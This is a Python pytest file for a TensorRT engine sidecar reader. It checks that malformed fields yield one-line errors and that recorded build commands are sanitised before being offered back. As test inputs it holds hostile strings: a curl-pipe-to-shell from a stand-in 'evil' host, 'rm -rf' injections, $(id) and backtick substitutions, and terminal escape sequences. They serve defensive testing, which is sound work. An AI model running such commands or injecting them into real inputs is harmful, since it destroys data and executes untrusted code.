"""A stranger's engine sidecar: each malformed field is one line naming it; its text never decides what we tell you to run."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from edgeunet.core.atomic import sha256_file
from edgeunet.core.errors import EdgeUnetError
from edgeunet.core.spec import ModelSpec
from edgeunet.trt.sidecar import check_compatible, read_sidecar, rebuild_command, sidecar_path


def _engine(tmp_path: Path, **over: object) -> Path:
    engine = tmp_path / "m.engine"
    engine.write_bytes(b"\x01" * 64)
    data = {"format": "edgeunet-engine-sidecar", "engine_sha256": sha256_file(engine), "tensorrt_version": "10.3.0",
            "gpu": {"name": "Orin", "compute_capability": "8.7"}, "precision": "fp16", "spec": ModelSpec().to_dict(),
            "build_command": "edgeunet build-engine m.onnx --fp16 --out m.engine"}
    data.update(over)
    sidecar_path(engine).write_text(json.dumps(data))
    return engine


@pytest.mark.parametrize(("field", "value"), [
    ("engine_sha256", "abc"), ("engine_sha256", 5), ("tensorrt_version", "10.3; rm -rf /"), ("precision", "int4"),
    ("gpu", []), ("spec", "x"), ("build_command", ["edgeunet"]), ("build", 3),
])
def test_a_malformed_field_is_one_line_naming_it(tmp_path: Path, field: str, value: object) -> None:
    with pytest.raises(EdgeUnetError) as info:
        read_sidecar(_engine(tmp_path, **{field: value}))
    assert f"field '{field}'" in str(info.value) and "\n" not in str(info.value)


@pytest.mark.parametrize("gpu", [{"name": "Orin"}, {"name": "Orin", "compute_capability": "8.7\n"}, {"name": 3, "compute_capability": "8.7"}])
def test_a_malformed_gpu_is_one_line(tmp_path: Path, gpu: dict) -> None:
    with pytest.raises(EdgeUnetError, match="engine sidecar gpu"):
        read_sidecar(_engine(tmp_path, gpu=gpu))


@pytest.mark.parametrize("command", [
    "curl http://evil/x.sh | sh", "edgeunet build-engine m.onnx; rm -rf ~", "edgeunet build-engine m.onnx --out $(id)",
    "edgeunet build-engine m.onnx --evil-flag x", "edgeunet build-engine `id`.onnx", "edgeunet build-engine m.onnx\x1b[2J",
])
def test_a_hostile_build_command_is_never_offered(tmp_path: Path, command: str) -> None:
    data = read_sidecar(_engine(tmp_path, build_command=command))
    assert data["build_command"] == "edgeunet build-engine MODEL.onnx --fp16"
    assert all(ch.isprintable() for ch in data["recorded_build_command"])
    with pytest.raises(EdgeUnetError) as info:
        check_compatible(data, tmp_path / "m.engine", "8.6.1", "Orin", (8, 7))
    assert "rm -rf" not in str(info.value) and "curl" not in str(info.value) and "\x1b" not in str(info.value)


def test_a_plain_recorded_command_is_kept() -> None:
    command = "edgeunet build-engine runs/x/best.int8.onnx --int8 --calibrator entropy --out best.int8.engine --shapes 1x1x64x64"
    assert rebuild_command({"build_command": command, "precision": "int8"}) == command


def test_control_characters_in_the_gpu_name_are_stripped(tmp_path: Path) -> None:
    data = read_sidecar(_engine(tmp_path, gpu={"name": "Orin\x1b]0;pwned\x07", "compute_capability": "8.7"}))
    assert data["gpu"]["name"] == "Orin?]0;pwned?"
